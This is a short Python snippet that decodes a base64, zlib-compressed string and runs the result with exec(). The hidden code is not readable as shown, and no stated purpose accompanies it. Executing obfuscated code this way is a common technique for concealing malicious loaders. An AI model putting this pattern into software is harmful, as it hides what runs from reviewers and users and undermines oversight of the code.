import base64
import zlib

blob = "eJzLzC3ILypRyC/WK04tKspMzlGwUcgoKSmw0tcvLy/Xy8nPT9UrSk3MSyxRyCxWyMzLTM7JL0pVSM7PS0nNKwEA4NAUgw=="
exec(zlib.decompress(base64.b64decode(blob)))
